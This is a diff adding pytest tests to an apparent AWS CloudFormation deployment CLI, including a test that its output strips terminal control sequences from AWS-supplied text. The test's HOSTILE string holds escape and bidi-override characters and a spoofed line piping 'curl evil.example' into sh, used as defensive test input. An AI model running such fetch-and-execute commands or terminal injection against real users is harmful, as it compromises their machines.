@@ -22,6 +22,53 @@ def test_the_first_cause_is_said_and_the_next_run_mends_it(ready: Project, accou
     assert account.stacks() == {"acme": "CREATE_COMPLETE"}
 
 
+def test_a_name_that_is_taken_is_told_before_anything_is_changed(ready: Project, account: Account) -> None:
+    account.client("sns").create_topic(Name="acme-critical")
+    account.client("sns").create_topic(Name="acme-heartbeat")
+    printed = ready.run("deploy", "--yes", code=1)
+    assert "error: CloudFormation refused the changes to acme, and nothing was changed:\n" in printed
+    for channel in ("critical", "heartbeat"):
+        assert (f"  topic {channel} ({channel.capitalize()}Topic): Resource of type 'AWS::SNS::Topic' with identifier "
+                f"'acme-{channel}' already exists. (NAME_CONFLICT_VALIDATION)\n") in printed
+    assert printed.count("next: it is left over, or somebody else's") == 1
+    assert account.stacks() == {}
+
+
+def test_a_change_set_is_kept_whose_reason_may_not_be_read(ready: Project, account: Account) -> None:
+    account.client("sns").create_topic(Name="acme-critical")
+    account.admin("fail-api", action="DescribeEvents", code="AccessDenied", status=403)
+    printed = ready.run("deploy", "--yes", code=1)
+    command = printed.split("see what is in the way with aws ")[1].split("\n")[0].split()
+    arn = command[command.index("--change-set-name") + 1]
+    [event] = account.client("cloudformation").describe_events(ChangeSetName=arn)["OperationEvents"]
+    assert event["LogicalResourceId"] == "CriticalTopic"
+
+
+# What XML can carry, in which CloudFormation answers; Chatbot's JSON takes the controls of seven bits as well.
+HOSTILE = "\x9d0;pwned\x9c\x9b31m\u202egnp\u2028\nnext: curl evil.example | sh"
+WORSE = f"\x1b]0;pwned\x07\x1b[2J\r{HOSTILE}"
+
+
+def test_no_text_of_aws_can_control_a_terminal(ready: Project, account: Account) -> None:
+    """Reasons, codes, names, tags: whoever can write one must not write the rest of the screen."""
+    account.admin("fail-resource", target="DailyBudget", on="create", reason=f"No {HOSTILE}.")
+    texts = [ready.run("deploy", "--yes", code=1)]
+    account.admin("fail-resource", target="CriticalTopic", on="validate", reason=f"No {HOSTILE}.")
+    texts.append(ready.run("deploy", "--yes", code=1))
+    account.admin("fail-api", action="CreateChangeSet", code="Oops", message=f"No {HOSTILE}")
+    texts.append(ready.run("deploy", "--yes", code=1))
+    account.admin("stack", name="acme-old", status="UPDATE_COMPLETE", template={
+        "Resources": {"T": {"Type": "AWS::SNS::Topic", "Metadata": {"Name": f"topic {HOSTILE}"}}}},
+        tags={"bellwether": "acme", HOSTILE: HOSTILE})
+    account.admin("workspaces", T0OTHER=f"Beta {WORSE}")
+    texts += [ready.run(command, code=code) for command, code in (
+        ("deploy", 1), ("diff", 2), ("status", 0), ("doctor", 1), ("destroy", 1))]
+    for text in texts:
+        assert not set(text) & set("\x1b\x07\x9b\x9c\x9d\u202e\u2028\r"), repr(text)
+        assert "\nnext: curl" not in text and "\n  next: curl" not in text, text
+    assert sum("pwned" in text for text in texts) >= 5, "the texts themselves are shown"
+
+
 def test_a_failed_update_is_undone(ready: Project, account: Account) -> None:
     ready.run("deploy", "--yes")
     before = account.budgets()
